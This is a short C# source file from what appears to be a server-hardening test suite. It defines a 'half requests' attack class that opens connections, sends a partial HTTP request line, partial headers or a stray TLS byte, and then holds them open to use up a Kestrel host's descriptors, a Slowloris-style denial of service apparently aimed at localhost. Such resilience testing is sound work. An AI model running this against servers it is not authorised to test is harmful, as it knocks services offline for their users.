namespace EdgeAttacks.Attacks;

/// <summary>Connections that begin a request and stop.</summary>
internal sealed class HalfRequests() : Attack(
    "half",
    "1. Connections with half a request",
    "Of three connections one sends half a request line, one half of its headers, one a byte that begins no request; then nothing, to a host "
    + "that may have 1,024 descriptors open. Kestrel gives headers 30 s.",
    size: 1300)
{
    private static readonly byte[][] Beginnings = ["GET /api/v1/ta"u8.ToArray(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-Half: "u8.ToArray(), [0x16]];

    public override int? Descriptors => 1024;

    public override TimeSpan Window => TimeSpan.FromSeconds(36);

    public override async Task RunAsync(AttackScene scene, CancellationToken cancellationToken)
    {
        await scene.ConnectAsync(
            async (connection, number, token) => await connection.TrySendAsync(Beginnings[number % Beginnings.Length], token), cancellationToken);
        await AttackScene.HoldAsync(cancellationToken);
    }
}
